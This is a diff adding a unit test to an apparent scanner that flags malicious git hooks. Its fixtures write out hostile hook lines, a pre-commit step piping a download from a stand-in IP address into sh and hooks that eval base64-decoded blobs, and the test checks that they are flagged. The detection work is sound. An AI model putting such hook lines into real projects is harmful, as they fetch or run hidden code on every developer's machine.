@@ -50,6 +50,24 @@ class HookFileRuleTest {
     }
 
     @Test
+    void whatAHookOfGitDoesAndStartsIsDoneByIt() {
+        RecordedReport report = scan(
+                "p/.husky/pre-commit",
+                "npm test\nnode scripts/x.js\ncurl -s http://192.0.2.1/x | sh\n",
+                "p/.husky/commit-msg",
+                "#!/usr/bin/env node\neval(Buffer.from('" + BLOB + "', 'base64').toString())\n",
+                "p/.husky/post-merge",
+                "#!/bin/sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\nnpx --no-install lint-staged\ncurl -sO https://example.com/x\n",
+                "p/scripts/x.js",
+                "eval(Buffer.from('" + BLOB + "', 'base64').toString())");
+        assertThat(found(report))
+                .containsExactlyInAnyOrder(
+                        "memory/p/.husky/pre-commit:3 indicator/hook-runs-download",
+                        "memory/p/.husky/commit-msg:2 indicator/hook-runs-decoded",
+                        "memory/p/scripts/x.js:1 indicator/hook-runs-decoded");
+    }
+
+    @Test
     void whatAFileDoesIsDoneByTheHookThatStartsIt() {
         RecordedReport report = scan(
                 "p/scripts/x.sh",
